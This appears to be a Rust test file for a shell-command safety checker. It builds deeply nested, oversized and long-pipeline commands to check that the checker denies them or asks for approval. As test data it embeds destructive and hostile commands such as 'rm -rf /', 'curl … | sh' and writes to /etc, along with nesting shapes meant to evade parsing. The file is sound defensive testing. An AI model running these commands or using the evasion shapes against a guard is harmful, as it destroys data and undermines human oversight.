//! Hostile command shapes: deep nesting must neither overflow the stack nor pass unchecked, long
//! commands must cost time and memory linear in their length, and a command over the size cap is
//! unverifiable without being parsed. Inputs are built in Rust; nothing here runs a command.

use std::time::{Duration, Instant};

use safeshell_rules::segment::{
    self, MAX_COMMAND_BYTES, MAX_DEPTH, MAX_STDIN_FROM, MAX_WRAPPERS, Segment,
};
use safeshell_rules::shell::{self, MAX_GROUP_WRITES, MAX_NESTING};
use safeshell_rules::{Action, CommandInput, Context, Evaluation, RuleSet, StaticFacts};

/// The stack of the daemon's tokio worker threads; the tests run on one this size.
const WORKER_STACK: usize = 2 * 1024 * 1024;

fn evaluate(command: &str, context: Context) -> Evaluation {
    let rules = RuleSet::builtin();
    let facts = StaticFacts::for_examples();
    rules.evaluate(
        CommandInput::Shell(command),
        context,
        "/home/user/project",
        &facts,
    )
}

/// Runs `f` on a thread with a 2 MiB stack (a stack overflow aborts the test binary).
fn on_worker_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(WORKER_STACK)
        .spawn(f)
        .unwrap()
        .join()
        .unwrap()
}

fn unverifiable_reasons(e: &Evaluation) -> Vec<String> {
    e.segments
        .iter()
        .filter_map(|s| s.unverifiable.clone())
        .collect()
}

/// The deeply nested shapes, each about 10,000 levels (20-50 KB, under the size cap).
fn deep_shapes() -> Vec<(&'static str, String)> {
    let n = 10_000;
    vec![
        ("command substitution", "$(".repeat(n)),
        (
            "closed command substitutions",
            format!("{}rm -rf /{}", "$(".repeat(n), ")".repeat(n)),
        ),
        (
            "subshells",
            format!("{}rm -rf /{}", "( ".repeat(n), " )".repeat(n)),
        ),
        (
            "groups",
            format!("{}rm -rf /;{}", "{ ".repeat(n), " }".repeat(n)),
        ),
        ("quoted substitutions", "\"$(".repeat(n)),
        ("process substitutions", "cat <(".repeat(n / 2)),
        (
            "parameter expansions",
            format!("{}$(rm -rf /){}", "${".repeat(n), "}".repeat(n)),
        ),
        ("backticks in substitutions", "$(`".repeat(n)),
        ("case", "case a in a) ".repeat(n / 4)),
        ("function definitions", "f() ".repeat(n) + "rm -rf /"),
        ("heredoc bodies", "cat <<E\n$(".repeat(n / 4)),
        ("arithmetic with substitutions", "$(( $(".repeat(n / 2)),
    ]
}

#[test]
fn deep_nesting_is_unverifiable_and_fits_a_worker_stack() {
    for (name, command) in deep_shapes() {
        assert!(
            command.len() <= MAX_COMMAND_BYTES,
            "{name}: {}",
            command.len()
        );
        let e = on_worker_stack(move || evaluate(&command, Context::Ai));
        assert!(
            e.action >= Action::RequireApproval,
            "{name}: {:?} ({})",
            e.action,
            e.reason
        );
        let reasons = unverifiable_reasons(&e);
        assert!(
            reasons
                .iter()
                .any(|r| r.contains(&format!("deeper than {MAX_NESTING} levels"))),
            "{name}: {reasons:?}"
        );
    }
}

#[test]
fn the_parser_itself_survives_deep_nesting_on_a_worker_stack() {
    for (name, command) in deep_shapes() {
        let parsed = on_worker_stack(move || shell::parse(&command));
        let why = parsed.unverifiable.unwrap_or_default();
        assert!(why.contains("nests deeper than"), "{name}: {why:?}");
    }
}

#[test]
fn shapes_that_do_not_nest_do_not_recurse() {
    for command in [
        "! time if while ".repeat(3_000) + "rm -rf /",
        "(".repeat(20_000),
        "((".repeat(10_000) + "$(rm -rf /)",
    ] {
        let e = on_worker_stack(move || evaluate(&command, Context::Ai));
        assert!(e.action >= Action::RequireApproval || e.segments.is_empty());
    }
    let command = "! time if while ".repeat(3_000) + "rm -rf /";
    let e = on_worker_stack(move || evaluate(&command, Context::Ai));
    assert_eq!(e.action, Action::Deny, "{}", e.reason);
}

#[test]
fn nesting_up_to_the_limit_is_parsed_in_full() {
    // MAX_NESTING levels of `$(`: the parse list of the whole string is the first level.
    let depth = MAX_NESTING - 1;
    let command = format!("{}rm -rf /{}", "$(".repeat(depth), ")".repeat(depth));
    let e = on_worker_stack(move || evaluate(&command, Context::Ai));
    assert_eq!(e.action, Action::Deny, "{}", e.reason);
    let reasons = unverifiable_reasons(&e);
    assert!(!reasons.iter().any(|r| r.contains("deeper")), "{reasons:?}");
    let command = format!(
        "{}rm -rf /{}",
        "$(".repeat(depth + 1),
        ")".repeat(depth + 1)
    );
    let parsed = shell::parse(&command);
    assert!(parsed.unverifiable.is_some());
}

#[test]
fn what_follows_a_too_deep_construct_is_still_checked() {
    let n = 5_000;
    for command in [
        format!("echo {}x{}; rm -rf /", "$(".repeat(n), ")".repeat(n)),
        format!("{}x{}; rm -rf /", "( ".repeat(n), " )".repeat(n)),
        format!("{}x;{} rm -rf /", "{ ".repeat(n), " };".repeat(n)),
    ] {
        let e = on_worker_stack(move || evaluate(&command, Context::Human));
        assert_eq!(e.action, Action::Deny, "{}", e.reason);
    }
}

#[test]
fn nested_shell_strings_stop_at_the_depth_or_the_size_limit() {
    // `bash -c` inside `bash -c` …: quoting makes each level longer, so past a few levels the
    // string is over the size cap; either way the innermost command is unverifiable.
    for levels in [MAX_DEPTH + 1, MAX_DEPTH + 3, 40] {
        let mut command = "rm -rf /".to_owned();
        for _ in 0..levels {
            command = format!("bash -c {}", segment::quote(&command));
            if command.len() > 4 * MAX_COMMAND_BYTES {
                break;
            }
        }
        let e = on_worker_stack(move || evaluate(&command, Context::Ai));
        assert!(
            e.action >= Action::RequireApproval,
            "{levels}: {}",
            e.reason
        );
        let reasons = unverifiable_reasons(&e);
        assert!(
            reasons
                .iter()
                .any(|r| r.contains("nested deeper than") || r.contains("bytes long")),
            "{levels}: {reasons:?}"
        );
    }
    // `eval` does not grow: it reaches the depth limit.
    let command = "eval ".repeat(10_000) + "rm -rf /";
    let e = on_worker_stack(move || evaluate(&command, Context::Ai));
    assert!(e.action >= Action::RequireApproval);
}

#[test]
fn an_oversized_command_is_unverifiable_and_not_parsed() {
    let command = format!("ls; {}", "x".repeat(MAX_COMMAND_BYTES));
    let started = Instant::now();
    let e = evaluate(&command, Context::Ai);
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(e.action, Action::RequireApproval);
    assert_eq!(e.segments.len(), 1);
    assert!(
        e.reason.contains(&format!("{} bytes long", command.len()))
            && e.reason.contains(&MAX_COMMAND_BYTES.to_string()),
        "{}",
        e.reason
    );
    // The segment shows only the start of the command.
    assert!(e.segments[0].text.len() < 200, "{}", e.segments[0].text);
    // Exactly at the cap it is parsed.
    let command = format!("ls; {}", "x".repeat(MAX_COMMAND_BYTES - 4));
    assert_eq!(command.len(), MAX_COMMAND_BYTES);
    assert_eq!(evaluate(&command, Context::Ai).action, Action::Allow);
    // A shell string inside an argv is capped the same way.
    let argv = vec![
        "bash".to_owned(),
        "-c".to_owned(),
        "true ".repeat(MAX_COMMAND_BYTES),
    ];
    let segs = segment::segments_of_argv(&argv);
    assert!(segs.iter().any(|s| {
        s.unverifiable
            .as_deref()
            .is_some_and(|r| r.contains("bytes long"))
    }));
}

/// The total size of what segments hold: with the limits, bounded by a multiple of the input's
/// length whatever its shape (each segment holds at most MAX_STDIN_FROM feeding programs and
/// MAX_WRAPPERS wrappers; the arguments of all segments are budgeted).
fn held(segs: &[Segment]) -> usize {
    segs.iter()
        .map(|s| 1 + s.args.len() + s.writes.len() + s.stdin_from.len() + s.via.len())
        .sum()
}

/// The long shapes of the issue, each built to just under the size cap.
fn long_shapes() -> Vec<(&'static str, String)> {
    fn fill(unit: &str) -> String {
        unit.repeat((MAX_COMMAND_BYTES - 1024) / unit.len())
    }
    vec![
        ("pipeline", fill("true | ") + "true"),
        (
            "pipeline of distinct programs",
            (0..9000)
                .map(|i| format!("p{i}"))
                .collect::<Vec<_>>()
                .join("|"),
        ),
        ("and list", fill("true && ") + "true"),
        ("semicolon list", fill("true; ") + "true"),
        ("substitutions", fill("echo $(true) ")),
        ("heredocs", {
            let n = MAX_COMMAND_BYTES / 16;
            format!("{}\n{}", "cat <<E;".repeat(n), "x\nE\n".repeat(n))
        }),
        ("long word", format!("echo {}", fill("a"))),
        ("quotes", format!("echo {}", fill("'a'\"b\""))),
        ("arguments", format!("rm {}", fill("x "))),
        ("writes", format!("a {}", fill(">/x "))),
        ("group redirects", {
            let n = MAX_COMMAND_BYTES / 8;
            format!("{{ {} }} {}", "a; ".repeat(n), "> x ".repeat(n))
        }),
        ("nested group redirects", {
            let n = MAX_COMMAND_BYTES / 4;
            format!(
                "{}{}{}",
                "{ ".repeat(60),
                "a;".repeat(n),
                "} >x >y >z ".repeat(60)
            )
        }),
        ("wrappers", fill("nice ") + "rm -rf /"),
        (
            "wrappers with arguments",
            format!("{} rm {}", "nice ".repeat(40), fill("x ")),
        ),
        (
            "eval chain with arguments",
            format!("{} rm {}", "eval sudo nice ".repeat(10), fill("x ")),
        ),
        ("find -exec with a heredoc", {
            let n = MAX_COMMAND_BYTES / 32;
            format!(
                "find {} <<E\n{}E\n",
                "-exec sh -s ; ".repeat(n),
                "echo hi\n".repeat(n)
            )
        }),
    ]
}

#[test]
fn long_commands_hold_linear_state_and_finish_quickly() {
    let rules = RuleSet::builtin();
    let facts = StaticFacts::for_examples();
    for (name, command) in long_shapes() {
        assert!(
            command.len() <= MAX_COMMAND_BYTES,
            "{name}: {}",
            command.len()
        );
        let segs = segment::segments_of_string(&command);
        assert!(
            held(&segs) <= (2 + MAX_STDIN_FROM) * command.len() + 16384,
            "{name}: {} for {} bytes",
            held(&segs),
            command.len()
        );
        // Before the fix a 35 KB pipeline took 6 s in a release build; now these take tens of
        // milliseconds there. The bound leaves room for a debug build on a busy machine.
        let started = Instant::now();
        let e = rules.evaluate(
            CommandInput::Shell(&command),
            Context::Ai,
            "/home/user/project",
            &facts,
        );
        let took = started.elapsed();
        assert!(took < Duration::from_secs(20), "{name}: {took:?}");
        assert!(!e.segments.is_empty(), "{name}");
    }
}

#[test]
fn a_long_pipeline_records_each_feeding_program_once() {
    let command = "true | ".repeat(5000) + "cat | sh";
    let segs = segment::segments_of_string(&command);
    let sh = segs.last().unwrap();
    assert_eq!(sh.program, "sh");
    assert_eq!(sh.stdin_from, ["true", "cat"]);
    // Too many different programs feeding a segment: unverifiable, never silently dropped.
    for last in ["grep x", "sh"] {
        let command = (0..=MAX_STDIN_FROM)
            .map(|i| format!("p{i}"))
            .chain(["curl x".to_owned(), last.to_owned()])
            .collect::<Vec<_>>()
            .join(" | ");
        let segs = segment::segments_of_string(&command);
        let seg = segs.last().unwrap();
        assert_eq!(seg.stdin_from.len(), MAX_STDIN_FROM);
        let why = seg.unverifiable.as_deref().unwrap_or_default();
        if last == "grep x" {
            assert!(
                why.contains(&format!("more than {MAX_STDIN_FROM} different")),
                "{why}"
            );
        } else {
            assert!(why.contains("piped into it"), "{why}");
        }
        assert_eq!(
            evaluate(&command, Context::Ai).action,
            Action::RequireApproval
        );
    }
    // Within the limit the remote-script rule still sees curl far up the pipeline.
    let command = format!("curl -s https://x | {}sh", "tee a | ".repeat(3000));
    assert_eq!(evaluate(&command, Context::Ai).action, Action::Deny);
}

#[test]
fn long_wrapper_chains_are_unverifiable() {
    let command = "nice ".repeat(MAX_WRAPPERS + 1) + "rm -rf /";
    let e = evaluate(&command, Context::Ai);
    assert!(e.action >= Action::RequireApproval);
    assert!(
        unverifiable_reasons(&e)
            .iter()
            .any(|r| r.contains(&format!("more than {MAX_WRAPPERS} wrappers")))
    );
    // A realistic chain is followed to the end.
    let e = evaluate(
        "sudo -u root env A=1 nice -n 5 ionice -c3 timeout 10 stdbuf -oL rm -rf /",
        Context::Ai,
    );
    assert_eq!(e.action, Action::Deny);
}

#[test]
fn group_redirects_beyond_the_budget_are_unverifiable() {
    let n = MAX_GROUP_WRITES + 1;
    let command = format!("{{ {} }} > /tmp/out", "a; ".repeat(n));
    let e = evaluate(&command, Context::Ai);
    assert_eq!(e.action, Action::RequireApproval);
    assert!(
        unverifiable_reasons(&e)
            .iter()
            .any(|r| r.contains(&MAX_GROUP_WRITES.to_string()))
    );
    // Within it, every command writes to the group's targets.
    let e = evaluate("{ echo a; echo b; } > /etc/app.conf", Context::Ai);
    assert_eq!(e.rule.as_deref(), Some("system-directory-redirect"));
    assert!(e.segments.iter().all(|s| s.matches.len() == 1));
}
